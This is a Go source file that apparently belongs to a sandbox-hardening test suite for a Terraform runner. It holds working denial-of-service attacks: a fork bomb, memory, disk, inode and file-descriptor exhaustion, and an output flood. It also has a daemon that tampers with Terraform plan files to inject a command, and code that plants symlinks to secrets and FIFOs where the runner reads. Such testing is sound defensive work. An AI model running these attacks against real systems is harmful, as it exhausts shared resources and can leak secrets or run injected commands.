//go:build linux

package attack

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"syscall"

	"golang.org/x/sys/unix"
)

// taking are attacks that take everything there is of something.
var taking = []Attack{
	{Name: "fork-bomb", Tries: "starts processes until it may not", Holds: "there is a limit, and the others go on", Alone: true,
		carry: func(r *Report, t Target) {
			started := 0
			for ; started < t.Much.Processes; started++ {
				cmd := &exec.Cmd{Path: "/bin/sleep", Args: []string{t.Mark, fmt.Sprint(lasts.Seconds())}} // a small one
				if err := cmd.Start(); err != nil {
					r.Tried("after %d processes: %v", started, err)
					return
				}
			}
			r.Broke("started %d processes", started)
		}},
	{Name: "memory-bomb", Tries: "takes memory until it may not", Holds: "there is a limit, and the others go on", Alone: true,
		carry: func(r *Report, t Target) {
			const piece = 16 << 20
			var took int64
			for ; took < t.Much.Memory; took += piece {
				b, err := unix.Mmap(-1, 0, piece, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_PRIVATE|unix.MAP_ANON)
				if err != nil {
					r.Tried("after %d bytes: %v", took, err)
					return
				}
				for i := 0; i < len(b); i += 4096 {
					b[i] = 1
				}
			}
			r.Broke("took %d bytes of memory", took)
		}},
	{Name: "fill-the-disk", Tries: "writes files until there is no room", Holds: "there is a limit, the server stores its results, and the room comes back", Alone: true,
		carry: func(r *Report, t Target) {
			for _, dir := range []string{".", os.Getenv("HOME"), os.TempDir()} {
				r.fill(filepath.Join(dir, "fill-"+t.Mark), t.Much.Disk)
			}
		}},
	{Name: "fill-shared-memory", Tries: "fills /dev/shm, /tmp and /var/tmp", Holds: "nothing of it stays", Alone: true,
		carry: func(r *Report, t Target) {
			for _, dir := range []string{"/dev/shm", "/tmp", "/var/tmp"} {
				r.fill(filepath.Join(dir, "fill-"+t.Mark), min(t.Much.Disk, 64<<20))
			}
		}},
	{Name: "take-all-inodes", Tries: "makes files until it may not", Holds: "nothing of them stays, and the others go on", Alone: true,
		carry: func(r *Report, t Target) {
			dir := filepath.Join(os.TempDir(), "inodes-"+t.Mark)
			_ = os.MkdirAll(dir, 0o700)
			for i := range t.Much.Inodes {
				f, err := os.OpenFile(filepath.Join(dir, fmt.Sprint(i)), os.O_CREATE|os.O_WRONLY, 0o600)
				if err != nil {
					r.Tried("after %d files: %v", i, err)
					return
				}
				_ = f.Close()
			}
			r.Tried("made %d files", t.Much.Inodes)
		}},
	{Name: "open-all-files", Tries: "opens files and sockets until it may not", Holds: "there is a limit, and the others go on", Alone: true,
		carry: func(r *Report, t Target) {
			var limit unix.Rlimit
			if err := unix.Getrlimit(unix.RLIMIT_NOFILE, &limit); err == nil {
				limit.Cur = limit.Max
				r.Tried("limit %d, raised: %v", limit.Max, unix.Setrlimit(unix.RLIMIT_NOFILE, &limit))
			}
			for i := range t.Much.Files {
				if _, err := unix.Open("/dev/null", unix.O_RDONLY, 0); err != nil {
					r.Tried("after %d files: %v", i, err)
					return
				}
			}
			r.Broke("opened %d files", t.Much.Files)
		}},
	{Name: "flood-the-output", Tries: "prints without an end", Holds: "the job ends with a sentence, the others go on", Alone: true,
		carry: func(r *Report, t Target) {
			line := append(bytes.Repeat([]byte("x"), 8191), '\n')
			tty, err := os.OpenFile("/dev/stderr", os.O_WRONLY, 0)
			if err != nil {
				tty = os.Stdout
			}
			var written int64
			for written < t.Much.Output {
				n, err := tty.Write(line)
				written += int64(n)
				if err != nil {
					return
				}
			}
		}},
	{Name: "exchange-the-plan", Tries: "leaves a daemon behind that changes the plan file once terraform has written it, adding a command to its configuration", Holds: "the command never runs", Alone: true,
		carry: func(r *Report, t Target) {
			cmd := exec.Command(os.Args[0], "swap", t.Mark, t.Job)
			cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
			if err := cmd.Start(); err != nil {
				r.Tried("%v", err)
			}
		}},
	{Name: "links-for-the-runner", Tries: "puts symbolic links to secrets, hard links and FIFOs where the runner reads: plan, lock file, errored.tfstate, output", Holds: "the runner neither follows nor waits", Alone: true,
		carry: links},
}

func (r *Report) fill(name string, most int64) {
	f, err := os.Create(name)
	if err != nil {
		r.Tried("%v", err)
		return
	}
	defer func() { _ = f.Close() }()
	wrote, err := io.CopyN(f, zeros{}, most)
	r.Tried("%s: %d bytes, %v", name, wrote, err)
	if err == nil && wrote == most && most > 1<<30 {
		r.Broke("wrote %d bytes to %s", wrote, name)
	}
}

type zeros struct{}

func (zeros) Read(b []byte) (int, error) { clear(b); return len(b), nil }

// links replaces what is there, and what will be, of every directory that may be
// the runner's.
func links(r *Report, t Target) {
	secret := t.Secrets[0]
	for _, dir := range []string{".", "..", "../..", "../../..", t.Job, os.TempDir()} {
		for _, name := range []string{"errored.tfstate", ".terraform.lock.hcl", "plan.tfplan", "terraform.out", "terraform.err", "terraform.tfstate", "show.json", "plan.json"} {
			name = filepath.Join(dir, name)
			if err := os.Remove(name); err != nil && !errors.Is(err, os.ErrNotExist) {
				r.Tried("%v", err)
				continue
			}
			if err := os.Symlink(secret, name); err != nil {
				r.Tried("%v", err)
			}
		}
		if err := unix.Mkfifo(filepath.Join(dir, "result.json"), 0o600); err != nil {
			r.Tried("%v", err)
		}
		if l, err := net.Listen("unix", filepath.Join(dir, "socket")); err == nil {
			_ = l.Close()
		}
	}
}
